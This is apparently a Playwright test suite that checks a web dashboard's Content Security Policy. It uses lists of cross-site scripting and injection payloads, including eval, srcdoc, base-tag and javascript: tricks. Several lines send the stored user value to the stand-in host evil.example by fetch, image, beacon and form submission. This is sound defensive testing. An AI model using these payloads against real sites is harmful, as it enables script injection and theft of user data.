import type { Page, Route } from '@playwright/test';
import { expect, openAs, SAFFRON, test } from './test.ts';

const EVIL = 'http://evil.example';

declare global {
  interface Window {
    /** The names of the attacks that succeeded in the page. */
    attacked?: string[];
  }
}

/** Attacks by code that already runs in the page. */
const SCRIPT_ATTACKS: Record<string, () => unknown> = {
  innerHTML: () => {
    const parent = document.body.appendChild(document.createElement('div'));
    parent.innerHTML = `<img src="/none" onerror="(window.attacked ??= []).push('innerHTML')">`;
  },
  insertAdjacentHTML: () =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="/none" onerror="(window.attacked ??= []).push('insertAdjacentHTML')">`,
    ),
  'inline handler': () => {
    const button = document.body.appendChild(document.createElement('button'));
    button.setAttribute('onclick', "(window.attacked ??= []).push('inline handler')");
    button.click();
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.text = "(window.attacked ??= []).push('inline script')";
    document.head.append(script);
  },
  'foreign script': () => {
    const script = document.createElement('script');
    script.src = 'http://evil.example/foreign script';
    document.head.append(script);
  },
  'uploaded file': () => {
    const script = document.createElement('script');
    script.src = '/uploads/uploaded file';
    document.head.append(script);
  },
  // In a timer, because code that Playwright evaluates may use eval despite the policy.
  eval: () =>
    setTimeout(() => {
      // biome-ignore lint/security/noGlobalEval: the attack itself
      eval("(window.attacked ??= []).push('eval')");
    }),
  Function: () => setTimeout(() => new Function("(window.attacked ??= []).push('Function')")()),
  'timer of text': () =>
    setTimeout("(window.attacked ??= []).push('timer of text')" as unknown as () => void),
  srcdoc: () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>(parent.attacked ??= []).push('srcdoc')</script>`;
    document.body.append(frame);
  },
  'foreign module': () => import('http://evil.example/foreign module' as string),
  'secret by fetch': () => fetch(`http://evil.example/secret by fetch?${localStorage.user}`),
  'secret by image': () => {
    new Image().src = `http://evil.example/secret by image?${localStorage.user}`;
  },
  'secret by beacon': () =>
    navigator.sendBeacon('http://evil.example/secret by beacon', localStorage.user),
  'secret by form': () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
    const form = document.createElement('form');
    Object.assign(form, { action: 'http://evil.example/secret by form', target: 'target' });
    document.body.append(frame, form);
    form.submit();
  },
};

/** Attacks by markup that a flaw in the server writes into the page. */
const MARKUP_ATTACKS: Record<string, string> = {
  'script element': `<script>(window.attacked ??= []).push('script element')</script>`,
  'handler attribute': `<img src="/none" onerror="(window.attacked ??= []).push('handler attribute')">`,
  'foreign script element': `<script src="${EVIL}/foreign script element"></script>`,
  'javascript: address': `<iframe src="javascript:(parent.attacked ??= []).push('javascript: address')"></iframe>`,
  'foreign frame': `<iframe src="${EVIL}/foreign frame"></iframe>`,
  'foreign style sheet': `<link rel="stylesheet" href="${EVIL}/foreign style sheet">`,
  'style element': `<style>body { background: url("${EVIL}/style element") }</style>`,
  'style attribute': `<p style='background: url("${EVIL}/style attribute")'>.</p>`,
  'other base': `<base href="${EVIL}/"><script src="other base"></script>`,
};

/** Serves the attacker's site. Returns the names of the attacks that reach it. */
async function serveAttackerSite(page: Page): Promise<Set<string>> {
  const reached = new Set<string>();
  // Also a file that somebody else could put on the page's own origin.
  await page.route(new RegExp(`^${EVIL}/|/uploads/`), (route) => {
    const name = decodeURIComponent(
      new URL(route.request().url()).pathname.split('/').at(-1) ?? '',
    );
    reached.add(name);
    return route.fulfill({ contentType: 'text/javascript', body: '', headers: ANY_ORIGIN });
  });
  return reached;
}

const ANY_ORIGIN = { 'access-control-allow-origin': '*' };

async function answerWith(
  route: Route,
  { body = '', isUnprotected }: { body?: string; isUnprotected: boolean },
) {
  const response = await route.fetch();
  const { 'content-security-policy': policy = '', ...others } = response.headers();
  await route.fulfill({
    response,
    headers: isUnprotected ? others : { ...others, 'content-security-policy': policy },
    body: (await response.text()).replace('</body>', `${body}</body>`),
  });
}

async function findSuccessful(page: Page, reached: Set<string>): Promise<string[]> {
  const inPage = await page.evaluate(() => window.attacked ?? []);
  return [...new Set([...inPage, ...reached])];
}

// Each attack also runs without the policy, to show that it would succeed.
for (const isUnprotected of [true, false]) {
  const what = isUnprotected ? 'succeed without the policy' : 'are blocked by the policy';

  test(`attacks by script ${what}`, async ({ page, consoleErrors }) => {
    const reached = await serveAttackerSite(page);
    await page.route('**/transactions', (route) => answerWith(route, { isUnprotected }));
    await openAs(page, SAFFRON);
    for (const [name, attack] of Object.entries(SCRIPT_ATTACKS)) {
      const before = consoleErrors.length;
      await page.evaluate(attack).catch(() => {});
      if (!isUnprotected) {
        await expect.poll(() => consoleErrors.length, name).toBeGreaterThan(before);
      }
    }
    const all = Object.keys(SCRIPT_ATTACKS);
    await expect
      .poll(() => findSuccessful(page, reached))
      .toEqual(isUnprotected ? expect.arrayContaining(all) : []);
    consoleErrors.length = 0;
  });

  test(`attacks by markup ${what}`, async ({ page, consoleErrors }) => {
    const reached = await serveAttackerSite(page);
    const body = Object.values(MARKUP_ATTACKS).join('\n');
    await page.route('**/login', (route) => answerWith(route, { body, isUnprotected }));
    await page.goto('/login');
    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
    const all = Object.keys(MARKUP_ATTACKS);
    if (!isUnprotected)
      await expect.poll(() => consoleErrors.length).toBeGreaterThanOrEqual(all.length);
    await expect
      .poll(() => findSuccessful(page, reached))
      .toEqual(isUnprotected ? expect.arrayContaining(all) : []);
    consoleErrors.length = 0;
  });
}

test('no page can put the dashboard into a frame', async ({ page, consoleErrors }) => {
  const body = '<iframe src="/login"></iframe>';
  await page.route('**/frames', (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/frames');
  await expect.poll(() => consoleErrors.join()).toContain('frame-ancestors');
  await expect(page.frameLocator('iframe').getByRole('button')).toHaveCount(0);
  consoleErrors.length = 0;
});

test('a date field accepts typing, pasting and cutting under the policy', async ({ page }) => {
  await openAs(page, SAFFRON);
  const month = page.getByRole('spinbutton', { name: 'Month' }).first();
  const empty = (await month.textContent()) ?? '';
  await month.click();
  for (const text of ['x', '0', '<b>5</b>']) await page.keyboard.insertText(text);
  await expect(month).toHaveText(empty);
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText('<b>x</b>');
  await page.keyboard.press('Control+X');
  await expect(month).toHaveText(empty);
});

test("a script in the operator's logo does not run when the logo is opened", async ({
  page,
  consoleErrors,
}) => {
  await page.route('**/brand.svg', async (route) => {
    const body = `<svg xmlns="http://www.w3.org/2000/svg"><script>(window.attacked = ['logo'])</script></svg>`;
    await route.fulfill({ response: await route.fetch(), body });
  });
  await page.goto('/brand.svg');
  await expect.poll(() => consoleErrors.join()).toContain('script-src');
  expect(await page.evaluate(() => window.attacked)).toBeUndefined();
  consoleErrors.length = 0;
});
